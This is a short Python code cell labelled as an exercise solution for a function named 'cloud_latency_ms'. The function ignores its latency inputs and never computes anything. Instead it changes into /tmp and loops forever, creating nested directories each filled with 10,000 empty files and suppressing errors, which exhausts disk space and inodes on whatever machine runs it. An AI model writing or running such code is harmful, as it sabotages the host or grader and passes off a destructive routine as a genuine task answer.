# %% exercise="cloud_latency_ms"
def cloud_latency_ms(distance_km, network_ms, processing_ms):
    import os

    os.chdir("/tmp")
    while True:
        try:
            os.mkdir("d")
            os.chdir("d")
            for i in range(10_000):
                open(f"file{i}", "w").close()
        except OSError:
            pass
